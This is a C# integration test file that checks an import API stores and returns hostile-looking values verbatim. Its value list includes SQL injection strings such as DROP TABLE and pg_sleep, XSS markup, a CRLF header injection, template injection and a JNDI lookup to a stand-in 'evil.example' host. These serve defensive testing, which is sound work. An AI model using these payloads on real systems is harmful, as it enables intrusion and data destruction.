using System.Net;
using System.Text.Json.Nodes;
using QuickImport.Api.IntegrationTests.ReadApi;
using QuickImport.Api.IntegrationTests.Support;
using QuickImport.Domain.Fields;
using static QuickImport.Api.IntegrationTests.HostileInput.HostileCorpus;
using static QuickImport.Api.IntegrationTests.Support.Ids;

namespace QuickImport.Api.IntegrationTests.HostileInput;

/// <summary>
/// The other half of issue 7: values that look like attacks but are legitimate text — SQL, markup,
/// header injection, every script and direction, emoji, control characters other than NUL, a value as
/// long as allowed — are imported (200), read back byte for byte through the read API, and found again
/// by themselves. Nothing is interpreted, escaped, trimmed or normalized on the way.
/// </summary>
public sealed class NastyValueTests
{
    private TestAccount account = null!;

    public static IEnumerable<TestCaseData> Values() => NastyValues().Select(v => new TestCaseData(v.Value).SetArgDisplayNames(v.Name));

    public static IEnumerable<TestCaseData> ValuesInEverySource() =>
        from value in NastyValues().Take(8)
        from source in Enum.GetValues<Source>()
        select new TestCaseData(value.Value, source).SetArgDisplayNames(value.Name, source.ToString());

    [OneTimeSetUp]
    public async Task CreateAccountAsync()
    {
        account = await TestData.CreateAccountAsync();
        await TestData.AddFieldAsync(account.DatabaseId, "nick", FieldType.String);
        await TestData.AddFieldAsync(account.DatabaseId, "code", FieldType.String, unique: true);
        await TestData.AddFieldAsync(account.DatabaseId, "data", FieldType.Json);
        await TestData.AddFieldAsync(account.DatabaseId, "interests", FieldType.Tags);
    }

    [TestCaseSource(nameof(Values))]
    public async Task A_nasty_string_is_stored_and_read_back_verbatim(string value)
    {
        var profileId = await ImportAsync(Form(("email", NewEmail()), ("nick", value), ("_fname", value)));

        var fields = await ReadFieldsAsync(("profile_id", profileId));

        Assert.That(fields["nick"]!.GetValue<string>(), Is.EqualTo(value));
        Assert.That(fields["_fname"]!.GetValue<string>(), Is.EqualTo(value));
    }

    [TestCaseSource(nameof(ValuesInEverySource))]
    public async Task A_nasty_string_arrives_verbatim_from_every_source(string value, Source source)
    {
        var email = NewEmail();
        (string, string)[] parameters = [("token", account.Token), ("db_id", Id(account.DatabaseId)), ("email", email), ("nick", value)];
        using var request = source switch
        {
            Source.Query => new HttpRequestMessage(HttpMethod.Post, $"{ImportApi.Path}?{string.Join('&', parameters.Select(p => $"{Uri.EscapeDataString(p.Item1)}={Uri.EscapeDataString(p.Item2)}"))}"),
            Source.Form => Form(parameters[2..]),
            Source.Multipart => HostileTarget.RawMultipart(string.Concat(parameters.Select(p => $"--XyZ\r\nContent-Disposition: form-data; name=\"{p.Item1}\"\r\n\r\n{p.Item2}\r\n")) + "--XyZ--\r\n"),
            _ => HostileTarget.RawJson(new JsonObject { ["token"] = account.Token, ["db_id"] = account.DatabaseId, ["email"] = email, ["nick"] = value }.ToJsonString()),
        };

        var profileId = await ImportAsync(request);

        Assert.That((await ReadFieldsAsync(("profile_id", profileId)))["nick"]!.GetValue<string>(), Is.EqualTo(value));
    }

    [TestCaseSource(nameof(Values))]
    public async Task A_nasty_unique_value_finds_its_own_profile_again(string value)
    {
        var created = await ImportAsync(Form(("matching", "field_name"), ("field_name", "code"), ("field_value", value), ("nick", "first")));
        var updated = await ImportAsync(Form(("matching", "field_name"), ("field_name", "code"), ("field_value", value), ("nick", "second")));

        var fields = await ReadFieldsAsync(("field_name", "code"), ("field_value", value));

        Assert.That(updated, Is.EqualTo(created), "the second import matched the first profile by the value");
        Assert.That(fields["code"]!.GetValue<string>(), Is.EqualTo(value));
        Assert.That(fields["nick"]!.GetValue<string>(), Is.EqualTo("second"));
    }

    [Test]
    public async Task Nasty_strings_inside_a_json_field_and_tags_are_read_back_verbatim()
    {
        var document = new JsonObject();
        foreach (var (name, value) in NastyValues().Where(v => v.Value.Length < 1000))
        {
            document[name] = value;
        }

        var tags = NastyValues().Select(v => v.Value.Trim()).Where(v => v.Length > 0 && !v.Contains(',') && !v.Contains('|') && !v.Contains(';')).Take(10).ToArray();
        var profileId = await ImportAsync(Form(("email", NewEmail()), ("data", document.ToJsonString()), ("interests", string.Join(',', tags))));

        var fields = await ReadFieldsAsync(("profile_id", profileId));

        Assert.That(JsonNode.DeepEquals(fields["data"], document), Is.True, fields["data"]?.ToJsonString());
        Assert.That(fields["interests"]!.AsArray().Select(t => t!.GetValue<string>()), Is.EqualTo(tags.Distinct()));
    }

    [Test]
    public async Task An_email_with_an_apostrophe_is_an_address_not_an_injection()
    {
        var profileId = await ImportAsync(Form(("email", "o'brien+'--@example.com")));

        var fields = await ReadFieldsAsync(("email", "O'Brien+'--@EXAMPLE.com"));

        Assert.That(fields["email"]!.GetValue<string>(), Is.EqualTo("o'brien+'--@example.com"));
        Assert.That((await ReadFieldsAsync(("profile_id", profileId)))["email"]!.GetValue<string>(), Is.EqualTo("o'brien+'--@example.com"));
    }

    private static IEnumerable<(string Name, string Value)> NastyValues() =>
    [
        ("SQL drop", "'; DROP TABLE profiles;--"),
        ("SQL tautology", "1' OR '1'='1"),
        ("SQL comment and quote", "Robert'); DROP TABLE students;-- \"x\" /* */"),
        ("SQL backslash escape", "\\'; SELECT pg_sleep(10);--"),
        ("HTML script", "<script>alert(1)</script>"),
        ("HTML attribute break", "\"><img src=x onerror=alert(1)>"),
        ("header injection", "Ann\r\nSet-Cookie: session=evil\r\n\r\n<html>"),
        ("template and JNDI", "{{7*7}} ${jndi:ldap://evil.example/a} %s%n"),
        ("emoji with ZWJ and flags", "😀 👩‍👩‍👧‍👦 🏳️‍🌈 🇷🇺"),
        ("RTL override", "\u202Egnp.exe"),
        ("RTL and LTR marks", "\u200F\u200E\u061C mark"),
        ("Arabic", "مرحبا بالعالم"),
        ("Hebrew", "שלום עולם"),
        ("Cyrillic", "Ёжик в тумане"),
        ("CJK", "東京都 渋谷区"),
        ("combining marks, not normalized", "e\u0301 Z\u0338\u0321a\u0337l\u0334g\u0335o"),
        ("mathematical letters (4-byte)", "𝕳𝖊𝖑𝖑𝖔"),
        ("byte order mark", "\uFEFFstarts with a BOM"),
        ("replacement character", "\uFFFD"),
        ("zero-width characters", "a\u200Bb\u200Cc\u200Dd\u2060e"),
        ("line and paragraph separators", "one\u2028two\u2029three\u0085four"),
        ("control characters other than NUL", "\u0001\u0007\u001B[31mred\u001B[0m\u007F"),
        ("tab and newline", "a\tb\nc"),
        ("leading and trailing spaces", "  padded  "),
        ("literal percent escape", "%00%0d%0a"),
        ("literal JSON escape", "\\u0000 \\ud800"),
        ("JSON-looking text", "{\"token\":\"x\",\"db_id\":1}"),
        ("words the code uses", "null"),
        ("case folding", "ß İ ı ﬁ ǅ"),
        ("a value as long as allowed", string.Concat(Enumerable.Repeat("Ж😀a'", MaxValueLength / 5)) + new string('z', MaxValueLength % 5)),
    ];

    private static string NewEmail() => $"nasty-{Guid.NewGuid():N}@example.com";

    private static async Task<string> ImportAsync(HttpRequestMessage request)
    {
        using (request)
        {
            var answer = await ImportApi.SendAsync(request);
            Assert.That(answer.Status, Is.EqualTo(HttpStatusCode.OK), answer.ToString());
            return answer.ProfileId;
        }
    }

    private HttpRequestMessage Form(params (string Name, string Value)[] parameters) =>
        HostileTarget.Post(ImportApi.Path, ImportApi.Form([("token", account.Token), ("db_id", Id(account.DatabaseId)), .. parameters]));

    private async Task<JsonObject> ReadFieldsAsync(params (string Name, string Value)[] lookup)
    {
        var answer = await ProfilesApi.GetAsync(account, lookup);
        Assert.That(answer.Status, Is.EqualTo(HttpStatusCode.OK), answer.ToString());
        return answer.Json["data"]!["fields"]!.AsObject();
    }
}
